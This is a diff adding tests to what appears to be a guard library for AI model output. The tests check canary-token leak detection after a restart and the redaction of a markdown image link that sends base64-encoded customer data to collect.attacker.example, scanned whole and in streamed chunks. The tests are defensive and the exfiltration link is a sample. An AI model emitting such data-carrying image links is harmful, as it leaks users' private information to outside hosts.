@@ -101,3 +101,27 @@ def test_link_allowlist_comes_from_the_policy() -> None:
 def test_bad_allowed_hosts_are_a_policy_error() -> None:
     with pytest.raises(aispm.PolicyError):
         aispm.Guard({"output": {"links": {"allowed_hosts": ["https://acme.example/path"]}}})
+
+
+def test_a_known_canary_is_watched_again_after_a_restart() -> None:
+    token = aispm.Guard().canary()  # generated once, stored with the deployed prompt
+    restarted = aispm.Guard()
+    assert restarted.output.scan(f"leak {token}").allowed
+    assert restarted.canary(token) == token
+    assert "leakage.canary" in restarted.output.scan(f"leak {token}").rule_ids
+    with pytest.raises(aispm.PolicyError):
+        restarted.canary("short")
+    with pytest.raises(TypeError):
+        restarted.canary(42)  # type: ignore[arg-type]
+
+
+def test_an_exfiltration_link_split_across_chunks_is_redacted_whole() -> None:
+    guard = aispm.Guard()
+    payload = base64.urlsafe_b64encode(b"the customer's account number and home address").decode()
+    text = "Done. " + "All good here. " * 12 + f"![status](https://collect.attacker.example/p.png?d={payload}) Bye."
+    one_shot = guard.output.scan(text).text
+    assert "attacker.example" not in one_shot
+    for size in (1, 5, 17, 64):
+        chunks = [text[i : i + size] for i in range(0, len(text), size)]
+        streamed = "".join(guard.output.scan_stream(chunks))
+        assert streamed == one_shot
